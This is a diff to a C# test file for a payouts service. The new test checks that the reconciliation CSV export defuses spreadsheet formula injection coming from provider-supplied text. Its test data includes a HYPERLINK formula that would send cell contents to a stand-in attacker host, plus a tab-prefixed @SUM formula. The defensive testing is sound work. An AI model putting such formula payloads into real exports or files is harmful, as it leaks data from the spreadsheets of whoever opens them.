@@ -103,6 +103,7 @@ public sealed class SettlementTests(PayoutsService service) : LedgerTest(service
     [InlineData("{H}\n{L},paid,10.00,USD,PRV-1,\n\n{L2},paid,20.00,USD\n", "line 4")]
     [InlineData("{H}\nnot-a-line,paid,10.00,USD,PRV-1,\n", "line 2: line_id")]
     [InlineData("{H}\n{L},paid,10.00,USD,PRV-1,\n{L},paid,10.00,USD,PRV-1,\n", "line 3: line_id")]
+    [InlineData("{H}\n{L},paid,99999999999999999999,USD,PRV-1,\n", "line 2: amount")]
     public async Task A_malformed_file_is_refused_naming_the_line_and_column_and_changes_nothing(string template, string fault)
     {
         var desk = new PayoutDesk(Service);
@@ -135,5 +136,31 @@ public sealed class SettlementTests(PayoutsService service) : LedgerTest(service
         Assert.Equal(["file"], await empty.ErrorFieldsAsync());
         Assert.Equal(HttpStatusCode.NotFound, unknown.StatusCode);
         Assert.Equal((0m, 10m), await desk.BalancesAsync((await desk.BatchAsync(batch)).GetProperty("lines")[0].GetProperty("creatorId").GetGuid()));
+    }
+
+    /// <summary>Security review 2026-12-05, finding 1: the provider's text reaches finance's spreadsheet as text, amounts as numbers.</summary>
+    [Fact]
+    public async Task The_reconciliation_csv_defuses_the_providers_text_and_keeps_amounts_numbers()
+    {
+        var desk = new PayoutDesk(Service);
+        var (batch, lineOf) = await ExportedBatchAsync(desk, 2);
+        const string reference = "\t@SUM(A1:A9)";
+        const string reason = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
+        var file = $"""
+            {Header}
+            {lineOf.Values.First()},paid,10.00,USD,"{reference}",
+            {lineOf.Values.Last()},failed,20.00,USD,PRV-2,"{reason.Replace("\"", "\"\"", StringComparison.Ordinal)}"
+            """;
+        (await desk.SettleAsync(batch, file)).EnsureSuccessStatusCode();
+
+        var response = await Service.SendAsync(HttpMethod.Get, $"/api/payouts/batches/{batch}/reconciliation?format=csv", desk.Brand);
+        using var csv = CsvHelper.CsvReader.FromText(await response.Content.ReadAsStringAsync(), CsvHelper.CsvReaderOptions.Default with { Separator = ',' });
+        var rows = new List<(string Outcome, string ProviderReference, string FailureReason, string Expected)>();
+        while (csv.Read())
+        {
+            rows.Add((csv.GetString("outcome"), csv.GetString("provider_reference"), csv.GetString("failure_reason"), csv.GetString("expected_amount")));
+        }
+
+        Assert.Equal([("paid", "'" + reference, "", "10"), ("failed", "PRV-2", "'" + reason, "20")], rows);
     }
 }
